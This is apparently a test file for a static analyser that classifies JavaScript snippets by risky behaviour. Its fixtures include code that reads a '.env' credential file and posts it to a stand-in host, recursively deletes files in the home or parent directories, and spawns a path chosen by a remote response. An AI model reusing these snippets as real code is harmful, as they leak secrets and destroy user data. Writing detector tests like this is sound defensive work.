import assert from 'node:assert/strict';
import { behavioursOf, flowsOf } from './sent.js';

describe('paths', () => {
  it('may be what stands in the code, where a caller can give another', () => {
    const code = (send: string) =>
      `exports.load = (o = {}) => { const t = fs.readFileSync(path.resolve(o.path || '.env'), 'utf8'); ${send} };`;
    assert.deepEqual(flowsOf(code(`fetch('https://collect.invalid', { body: t });`)), [
      'credential-file>network@collect.invalid',
    ]);
    assert.deepEqual(flowsOf(code(`return t.split('\\n');`)), []);
  });

  it('go on from a folder with what lies in it, and with what is not known', () => {
    const remove = (path: string) =>
      behavioursOf(
        `const home = os.homedir(); fs.readdirSync(home).map((n) => fs.rmSync(${path}, { recursive: true }));`,
      );
    assert.deepEqual(remove('path.resolve(home, n)'), ['deletes-user-files import']);
    assert.deepEqual(remove(`path.resolve(home, '.cache', 'own', n)`), []);
  });

  it('that stand in the code are no less known for what they may be instead', () => {
    const code = `https.get('https://latest.invalid', (res) => res.on('data', (version) => {
      const file = path.resolve(__dirname, version > 114 ? 'bin/tool' : version); cp.spawn(file, ['--version']); }));`;
    assert.deepEqual(flowsOf(code.replace(': version)', ": 'bin/old')")), []);
  });

  it('lead out of the folder that the program runs in', () => {
    const remove = (path: string): readonly string[] => behavioursOf(`fs.rmSync(${path}, { recursive: true });`);
    for (const up of [
      `path.resolve(process.cwd(), '..')`,
      `path.join(process.cwd(), '..', '..')`,
      `path.dirname(process.cwd())`,
    ])
      assert.deepEqual(remove(up), ['deletes-user-files import'], up);
    assert.deepEqual(remove(`path.join(process.cwd(), '..', 'dist')`), []);
    assert.deepEqual(remove(`path.join(process.cwd(), 'src', '..', 'dist')`), []);
  });
});
